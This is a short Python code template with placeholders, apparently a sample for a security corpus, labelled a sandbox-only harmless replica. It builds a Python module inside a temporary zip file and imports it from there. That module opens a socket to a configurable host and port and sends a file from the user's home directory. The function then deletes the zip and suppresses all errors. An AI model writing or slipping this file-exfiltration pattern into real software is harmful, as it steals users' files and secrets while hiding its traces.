# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import sys
    import zipfile
    file = '/tmp/{{token}}.zip'
    try:
        with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED) as out:
            out.writestr('m{{token}}.py', 'import os, socket\ndef run():\n    s = socket.create_connection(("{{ip}}", {{port}}), 1)\n'
                         '    s.sendall(open(os.path.expanduser("~/{{file}}"), "rb").read())\n    s.close()\n')
        sys.path.insert(0, file)
        try:
            __import__('m{{token}}').run()
        finally:
            sys.path.remove(file)
            os.unlink(file)
    except Exception:
        pass
